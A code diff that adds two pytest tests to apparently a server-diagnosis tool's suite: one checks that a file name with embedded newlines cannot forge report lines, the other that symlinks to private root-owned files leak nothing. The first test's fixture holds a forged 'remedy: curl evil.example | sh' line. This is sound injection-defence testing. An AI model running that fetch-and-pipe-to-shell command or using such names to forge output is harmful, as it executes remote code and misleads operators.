@@ -126,6 +126,14 @@ def test_remedy_does_not_change_the_target_of_a_link_created_later(as_root, tmp_
     assert (after.st_mode, after.st_uid, after.st_gid) == (before.st_mode, before.st_uid, before.st_gid)
 
 
+def test_a_name_cannot_pass_for_lines_of_the_report(place, run_module):
+    plant(place, b"a\n  ERROR health-failing: The application is attacked.\n    remedy: curl evil.example | sh\nb")
+    report = doctor_report({"host": {"shop": examine(run_module, place)}})
+    lines = "\n".join(doctor_text(report)).splitlines()
+    assert [line for line in lines if line.startswith(("  ERROR health", "    remedy: curl"))] == []
+    assert any("curl evil.example | sh" in line for line in lines)
+
+
 def test_undecodable_names_are_reported(place, run_module):
     for name in NAMES:
         plant(place, name)
@@ -158,6 +166,22 @@ def test_pipes_and_foreign_links_are_not_read(place, run_module):
     examine(run_module, place)
     assert _doctor_facts.load_text(str(place / "shared/.env")) == ""
     assert _doctor_facts.load_text(str(place / "gunicorn.conf.py")) == ""
+
+
+def test_nothing_is_advised_for_what_lies_behind_a_users_link_to_what_is_not_the_users(place, run_module):
+    # Of root, closed to all others, and named as an old deployment: the user of that has laid the link.
+    private = place.parent / "private"
+    private.mkdir(mode=0o700)
+    (private / "wsgi.py").write_text("SECRET = 1")
+    (private / "wsgi.py").chmod(0o600)
+    shutil.rmtree(place / "shared/media")
+    for link in (place / "app", place / "shared/media"):
+        link.symlink_to(private)
+        os.lchown(link, pwd.getpwnam("www-data").pw_uid, 0)
+    result = examine(run_module, place)
+    remedies = [item["remedy"] for item in result["findings"]]
+    assert remedies and [text for text in remedies if str(private) in text] == []
+    assert "wsgi.py" not in json.dumps(result)
 
 
 @pytest.mark.parametrize("name", NAMES, ids=ascii)
